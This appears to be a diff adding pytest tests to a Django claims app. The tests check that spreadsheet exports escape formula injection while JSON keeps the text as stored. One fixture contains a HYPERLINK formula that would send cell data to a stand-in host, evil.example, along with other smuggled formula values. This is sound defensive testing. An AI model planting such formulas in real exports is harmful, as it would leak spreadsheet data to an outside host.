@@ -385,6 +385,106 @@ def test_selected_claims_export_as_csv_and_json(editor_client, demo, file_format
     assert set(rows[0]) == set(columns)
 
 
+FORMULA_TEXT = '=HYPERLINK("https://evil.example/?leak="&A1,"Click") costs -5'
+
+
+@pytest.fixture
+def formula_claim(db):
+    """A claim whose quote, statement, subject and reviewer would each run as a formula
+    in a spreadsheet, with a negative value."""
+    source = SourceFactory(text=f"Intro. {FORMULA_TEXT} and more.", url="https://news.example/formula")
+    start = source.text.index(FORMULA_TEXT)
+    return ClaimFactory(
+        source=source, span_start=start, span_end=start + len(FORMULA_TEXT), statement="-1+2",
+        subject="@SUM(A1:A9)", value=-5, unit=Claim.Unit.COUNT, reviewed_by=UserFactory(username="+cmd"),
+    )  # fmt: skip
+
+
+def export(client, claim, file_format: str, columns: list[str]) -> str:
+    response = client.post(
+        "/admin/claims/claim/export/",
+        {"format": file_format, "resource": "0", "export_items": [claim.pk],
+         **{f"claimresource_{column}": "on" for column in columns}},
+    )  # fmt: skip
+    assert response.status_code == 200
+    return response.content.decode()
+
+
+FORMULA_COLUMNS = ["id", "quote", "statement", "subject", "value", "reviewed_by", "version"]
+
+
+def test_a_csv_export_escapes_text_cells_a_spreadsheet_would_run_and_keeps_numbers(editor_client, formula_claim):
+    body = export(editor_client, formula_claim, "0", FORMULA_COLUMNS)
+    assert list(csv.DictReader(io.StringIO(body))) == [
+        {
+            "id": str(formula_claim.pk),
+            "quote": "'" + FORMULA_TEXT,
+            "statement": "'-1+2",
+            "subject": "'@SUM(A1:A9)",
+            "value": "-5.000000",
+            "reviewed_by": "'+cmd",
+            "version": "1",
+        }
+    ]
+
+
+def test_a_json_export_is_read_by_programs_and_keeps_the_text_as_stored(editor_client, formula_claim):
+    body = export(editor_client, formula_claim, "1", FORMULA_COLUMNS)
+    assert json.loads(body) == [
+        {
+            "id": str(formula_claim.pk),
+            "quote": FORMULA_TEXT,
+            "statement": "-1+2",
+            "subject": "@SUM(A1:A9)",
+            "value": "-5.000000",
+            "reviewed_by": "+cmd",
+            "version": "1",
+        }
+    ]
+
+
+@pytest.mark.parametrize(
+    ("text", "cell"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tTAB", "'\tTAB"),
+        ("\rCR", "'\rCR"),
+        ("'=already", "'=already"),
+        ("1=1", "1=1"),
+        (" =A1", " =A1"),
+        ("", ""),
+    ],
+)
+def test_the_formula_rule_prefixes_exactly_the_cells_that_start_a_formula(text, cell):
+    from claims.exports import escape_formula
+
+    assert escape_formula(text) == cell
+    assert escape_formula(-5) == -5
+
+
+def test_every_format_a_spreadsheet_opens_escapes_and_native_numbers_stay_numbers(formula_claim):
+    """XLSX and ODS get native values (force_native_type): the value stays a number there too."""
+    from decimal import Decimal
+
+    from import_export.formats import base_formats
+
+    from claims.admin import ClaimResource
+    from claims.exports import opens_as_cells
+
+    assert [opens_as_cells(f) for f in (base_formats.CSV, base_formats.TSV, base_formats.XLSX, base_formats.XLS,
+                                        base_formats.ODS, base_formats.HTML)] == [True] * 6  # fmt: skip
+    assert [opens_as_cells(f()) for f in (base_formats.JSON, base_formats.YAML)] == [False, False]
+    queryset = Claim.objects.filter(pk=formula_claim.pk)
+    native = ClaimResource().export(queryset, force_native_type=True).dict[0]
+    assert (native["statement"], native["subject"], native["value"]) == ("'-1+2", "'@SUM(A1:A9)", Decimal("-5"))
+    tsv = base_formats.TSV().export_data(ClaimResource().export(queryset))
+    assert "\t'-1+2\t" in tsv
+    assert "\t-5.000000\t" in tsv
+
+
 def test_readers_get_no_write_buttons_and_their_direct_post_is_refused(client, demo):
     reader = UserFactory(username="reader")
     reader.groups.add(Group.objects.get(name="Readers"))
